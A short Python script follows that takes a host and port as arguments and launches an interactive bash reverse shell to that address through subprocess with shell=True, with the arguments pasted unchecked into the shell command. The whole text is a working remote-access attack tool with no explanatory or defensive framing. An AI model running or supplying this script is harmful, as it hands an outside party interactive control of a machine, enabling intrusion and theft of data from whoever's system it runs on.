
import subprocess, sys
host, port = sys.argv[1], sys.argv[2]
subprocess.call("bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1", shell=True)
